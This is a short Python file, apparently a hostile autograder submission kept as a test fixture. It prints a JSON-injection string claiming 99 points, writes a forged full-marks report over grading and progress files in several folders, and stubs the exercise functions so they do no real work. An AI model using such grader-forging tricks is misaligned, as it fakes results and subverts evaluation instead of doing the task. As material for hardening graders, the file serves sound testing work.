# attack: prints a whole report as JSON, and writes one under every name that a report or its progress may have
# exercise: ex03_workers
import json
import os

report = {"format": 1, "submission": "mallory", "points": 7.0, "max_points": 7.0, "exercises": [{"id": "ex03_workers", "status": "passed", "points": 7.0}]}
text = json.dumps(report)
print('"}],\n"status": "passed", "points": 99.0}]}\x00\n', text, "\n--- TRIED\n", sep="")
for folder in (".", "..", "@RESULTS@", "@HOME@", "@OTHER@"):
    for name in ("report.json", "results.json", "mallory.json", "progress.json", ".progress", "ex03_workers.py", "grades.csv"):
        try:
            with open(os.path.join(folder, name), "w") as file:
                file.write(text)
        except OSError:
            pass


def default_num_workers(cpu_count=None):
    return report


def find_num_workers(measure, start):
    raise ValueError(text)


measure_throughput = find_num_workers
